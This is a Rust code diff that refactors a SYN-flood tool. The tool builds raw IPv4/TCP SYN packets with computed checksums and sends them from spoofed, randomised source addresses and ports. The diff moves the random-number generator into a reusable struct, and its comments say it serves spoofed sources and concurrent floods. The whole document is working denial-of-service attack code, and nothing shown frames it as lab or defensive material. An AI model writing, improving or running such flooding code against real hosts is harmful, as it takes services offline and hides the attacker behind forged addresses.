@@ -9,7 +9,7 @@ use std::{
 use anyhow::{Context as _, bail};
 
 /// An IPv4 network "a.b.c.d/len".
-fn parse_net(net: &str) -> anyhow::Result<(u32, u32)> {
+pub(crate) fn parse_net(net: &str) -> anyhow::Result<(u32, u32)> {
     let (addr, len) = net.split_once('/').context("a network is ADDRESS/LENGTH")?;
     let addr: Ipv4Addr = addr.parse().context("the network's address")?;
     let len: u32 = len.parse().context("the network's prefix length")?;
@@ -21,18 +21,37 @@ fn parse_net(net: &str) -> anyhow::Result<(u32, u32)> {
 }
 
 /// The one's complement sum of `bytes` (16-bit words, network order), unfolded.
-fn sum(mut acc: u32, bytes: &[u8]) -> u32 {
+pub(crate) fn sum(mut acc: u32, bytes: &[u8]) -> u32 {
     for w in bytes.chunks(2) {
         acc += u32::from(u16::from_be_bytes([w[0], *w.get(1).unwrap_or(&0)]));
     }
     acc
 }
 
-fn fold(mut acc: u32) -> u16 {
+/// The folded, complemented sum: the checksum field's value.
+pub(crate) fn fold(mut acc: u32) -> u16 {
     while acc > 0xffff {
         acc = (acc & 0xffff) + (acc >> 16);
     }
     !(acc as u16)
+}
+
+/// xorshift: random enough for spoofed sources and ports, no dependency.
+pub(crate) struct XorShift(u64);
+
+impl XorShift {
+    /// Seeded from the process id: two floods at once draw different sources.
+    pub(crate) fn seeded() -> Self {
+        Self(0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id()))
+    }
+
+    pub(crate) fn next(&mut self) -> u64 {
+        let x = &mut self.0;
+        *x ^= *x << 13;
+        *x ^= *x >> 7;
+        *x ^= *x << 17;
+        *x
+    }
 }
 
 /// A SYN from `src:sport` to `dst`: IPv4 header and TCP header, checksums filled.
@@ -88,18 +107,11 @@ pub fn syn_flood(
         },
         sin_zero: [0; 8],
     };
-    // xorshift: random enough for sources and ports, no dependency.
-    let mut x: u64 = 0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id());
-    let mut next = move || {
-        x ^= x << 13;
-        x ^= x >> 7;
-        x ^= x << 17;
-        x
-    };
+    let mut rng = XorShift::seeded();
     let start = Instant::now();
     let mut sent = 0;
     for i in 0..count {
-        let r = next();
+        let r = rng.next();
         let src = Ipv4Addr::from(net | (r as u32 & host_mask));
         let sport = match source_port {
             0 => 1024 + ((r >> 32) as u16 % 60_000),
